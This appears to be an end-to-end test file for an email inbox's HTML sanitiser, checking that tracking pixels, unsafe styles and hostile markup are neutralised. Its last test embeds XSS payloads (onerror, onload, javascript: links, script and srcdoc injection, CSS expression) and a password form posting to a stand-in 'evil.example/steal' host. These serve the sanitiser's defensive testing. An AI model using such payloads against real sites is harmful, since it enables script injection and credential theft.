// Email HTML in the inbox: a tracking pixel on a server this test runs gets NO request when
// the artist opens the message, only after "Load remote images"; inline data: images still
// show; `style` keeps only safe properties (no position:fixed, no url()); a hostile email
// (<img onerror>, <svg onload>, javascript: link, <script>) runs nothing.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import https from "node:https";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import type { Browser, Frame, Page } from "playwright-core";
import { ingestMessages } from "../../service/inbox/ingest.ts";
import { launchBrowser } from "../helpers/browser.ts";
import { isolatedDatabaseUrl, startTestApp, type TestApp } from "../helpers/app.ts";
import { signedInUser } from "../helpers/accounts.ts";
import { DESKTOP, freshWebBuild, logIn, POLL, textOf } from "./support.ts";

const PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

let app: TestApp;
let browser: Browser;
let pixel: { url: string; requests: string[]; close(): Promise<void> };
let artist: Awaited<ReturnType<typeof signedInUser>>;
let accountId: string;

beforeAll(async () => {
  await freshWebBuild();
  // The sender's image server speaks https like real trackers (a throwaway self-signed cert).
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "tatu-pixel-"));
  execFileSync(
    "openssl",
    [
      "req",
      "-x509",
      "-newkey",
      "rsa:2048",
      "-nodes",
      "-days",
      "1",
      "-subj",
      "/CN=127.0.0.1",
      "-addext",
      "subjectAltName=IP:127.0.0.1",
      "-keyout",
      `${dir}/key.pem`,
      "-out",
      `${dir}/cert.pem`,
    ],
    { stdio: "ignore" },
  );
  const requests: string[] = [];
  const server = https.createServer(
    { key: fs.readFileSync(`${dir}/key.pem`), cert: fs.readFileSync(`${dir}/cert.pem`) },
    (req, res) => {
      requests.push(req.url ?? "");
      res.writeHead(200, { "content-type": "image/png" }).end(Buffer.from(PNG_B64, "base64"));
    },
  );
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  pixel = {
    url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () => new Promise((r) => server.close(() => r())),
  };
  app = await startTestApp({ databaseUrl: await isolatedDatabaseUrl() });
  browser = await launchBrowser();
  artist = await signedInUser(app, { role: "artist" });
  const account = await app.ctx.db.connectedAccount.create({
    data: {
      userId: artist.userId,
      provider: "gmail",
      externalId: artist.email,
      address: artist.email,
      credentials: "v1.x.y.z",
      scopes: [],
    },
  });
  accountId = account.id;
});
afterAll(async () => {
  await browser?.close();
  await app?.close();
  await pixel?.close();
});

/** A browser that accepts the pixel server's self-signed certificate (as it would a real one). */
async function newContext() {
  const context = await browser.newContext({ viewport: DESKTOP, baseURL: app.url, ignoreHTTPSErrors: true });
  context.setDefaultTimeout(15_000);
  return context;
}

/** The document inside the message's iframe. */
async function messageFrame(page: Page): Promise<Frame> {
  const frame = await (await page.locator("iframe.message-html").elementHandle())?.contentFrame();
  if (!frame) throw new Error("no message iframe");
  return frame;
}

/** Mail arriving through the inbox's real ingest path (sanitised and stored like any sync). */
async function receive(from: string, subject: string, html: string): Promise<{ id: string; conversationId: string }> {
  const r = await ingestMessages(
    app.ctx,
    { id: accountId, userId: artist.userId, channel: "gmail", identityKind: "email" },
    [
      {
        externalId: `m-${Math.random().toString(36).slice(2)}`,
        direction: "inbound",
        from: { handle: from, name: from.split("@")[0] },
        to: [{ handle: artist.email }],
        cc: [],
        subject,
        text: "",
        html,
        sentAt: new Date(),
        seen: false,
        attachments: [],
      },
    ],
    { maxAttachmentBytes: 10 * 1024 * 1024 },
  );
  return r.inserted[0]!;
}

it("a tracking pixel is not requested until the artist loads remote images; inline images show; styles are filtered", async () => {
  const m = await receive(
    "news@shop.example",
    "Spring flash sale",
    `
    <p>Hello from the newsletter</p>
    <img src="${pixel.url}/open.gif?rcpt=artist" width="1" height="1" alt="">
    <img src="${pixel.url}/logo.png" srcset="${pixel.url}/logo-2x.png 2x" alt="Shop logo">
    <div style="position:fixed;top:0;left:0;width:100vw;background:url(${pixel.url}/bg.png);color:#123456;font-weight:bold">styled</div>
    <img src="data:image/png;base64,${PNG_B64}" alt="inline picture">`,
  );

  const context = await newContext();
  await logIn(context, artist.email);
  const page = await context.newPage();
  await page.goto(`/inbox/${m.conversationId}`);
  const body = page.frameLocator("iframe.message-html").locator("body");
  await expect.poll(() => textOf(body), POLL).toContain("Hello from the newsletter");
  const frame = await messageFrame(page);
  // Every image of the message has finished (loaded or not): a remote fetch would have reached
  // the sender's server by now. It has heard nothing.
  await expect
    .poll(
      () =>
        frame
          .evaluate(() => document.images.length > 0 && Array.from(document.images).every((i) => i.complete))
          .catch(() => false),
      POLL,
    )
    .toBe(true);
  await page.waitForLoadState("networkidle");
  expect(pixel.requests).toEqual([]);
  await expect
    .poll(
      () =>
        frame
          .evaluate(
            () => (document.querySelector('img[alt="inline picture"]') as HTMLImageElement | null)?.naturalWidth ?? 0,
          )
          .catch(() => 0),
      POLL,
    )
    .toBe(1);
  expect(await page.getByTestId("remote-images").innerText()).toMatch(/2 remote images were not loaded/);
  const styled = await frame.evaluate(() => {
    const el = Array.from(document.querySelectorAll("div")).find((d) => d.textContent === "styled")!;
    const cs = getComputedStyle(el);
    return { attr: el.getAttribute("style"), position: cs.position, color: cs.color, weight: cs.fontWeight };
  });
  expect(styled.position).toBe("static");
  expect(styled.attr).not.toMatch(/position|url\(|100vw/i);
  expect([styled.color, styled.weight]).toEqual(["rgb(18, 52, 86)", "700"]); // safe styles survive

  // Asked for: this message's remote images load (the pixel fires), the stripped background never does.
  await page.getByRole("button", { name: "Load remote images" }).click();
  await expect.poll(() => pixel.requests.some((u) => u.startsWith("/open.gif?rcpt=artist")), POLL).toBe(true);
  await expect.poll(() => pixel.requests.some((u) => u.startsWith("/logo")), POLL).toBe(true);
  await page.waitForLoadState("networkidle");
  expect(pixel.requests.filter((u) => u.startsWith("/bg.png"))).toEqual([]);
  await context.close();
});

it("the API the page renders keeps remote images out and strips unsafe styles", async () => {
  const m = await receive(
    "promo@shop.example",
    "Styles",
    `<p style="position:fixed;background:url(${pixel.url}/bg2.png);color:red">x</p><img src="${pixel.url}/t.gif">`,
  );
  const messages = await artist.client.get(`/api/inbox/conversations/${m.conversationId}/messages`);
  const item = messages.body.items.find((i: { id: string }) => i.id === m.id);
  expect(item.html).not.toMatch(/position|url\(/);
  expect(item).toMatchObject({ htmlUrl: `/api/inbox/messages/${m.id}/html`, remoteImages: 1 });

  const blocked = await artist.client.raw("GET", `/api/inbox/messages/${m.id}/html`);
  const text = await blocked.text();
  expect(blocked.status).toBe(200);
  expect(text).toContain('<p style="color:red">x</p>');
  expect(text).not.toContain(pixel.url);
  expect(blocked.headers.get("content-security-policy")).toMatch(/default-src 'none'; img-src data:; .*sandbox/);
  const remote = await artist.client.raw("GET", `/api/inbox/messages/${m.id}/html?images=remote`);
  expect(await remote.text()).toContain(`${pixel.url}/t.gif`);
  expect(remote.headers.get("content-security-policy")).toMatch(/img-src data: https: http:/);

  // Another user's message id is not found; a bad option is a clear 400.
  const other = await signedInUser(app, { role: "artist" });
  expect((await other.client.get(`/api/inbox/messages/${m.id}/html`)).status).toBe(404);
  const bad = await artist.client.get(`/api/inbox/messages/${m.id}/html?images=all`);
  expect([bad.status, bad.body.error?.code]).toEqual([400, "VALIDATION_FAILED"]);
});

it("a hostile email runs no script: <img onerror>, <svg onload>, javascript: link, <script>", async () => {
  const m = await receive(
    "mallory@evil.example",
    "Invoice",
    `
    <p>Please see the invoice</p>
    <img src=x onerror="parent.__xss=1;alert(1)">
    <svg onload="parent.__xss=2"><circle r=4></circle></svg>
    <a href="javascript:parent.__xss=3">click me</a>
    <script>parent.__xss=4</script>
    <iframe srcdoc="<script>parent.__xss=5</script>"></iframe>
    <form action="https://evil.example/steal"><input name="password"></form>
    <div style="behavior:url(x.htc);color:expression(alert(1))">odd</div>`,
  );
  const context = await newContext();
  await logIn(context, artist.email);
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(`/inbox/${m.conversationId}`);
  const body = page.frameLocator("iframe.message-html").locator("body");
  await expect.poll(() => textOf(body), POLL).toContain("Please see the invoice");
  await page.waitForLoadState("networkidle");
  const frame = await messageFrame(page);
  const dom = await frame.evaluate(() => ({
    dangerous: document.querySelectorAll("script, svg, iframe, form, input, object, embed").length,
    handlers: Array.from(document.querySelectorAll("*"))
      .flatMap((el) => Array.from(el.attributes).map((a) => a.name))
      .filter((n) => n.startsWith("on")),
    link: Array.from(document.querySelectorAll("a")).map((a) => [a.textContent, a.getAttribute("href")]),
    styles: Array.from(document.querySelectorAll("[style]")).map((el) => el.getAttribute("style")),
  }));
  expect(dom).toEqual({ dangerous: 0, handlers: [], link: [["click me", null]], styles: [] });
  await frame
    .getByText("click me")
    .click()
    .catch(() => undefined);
  await page.waitForLoadState("networkidle");
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  await context.close();
});
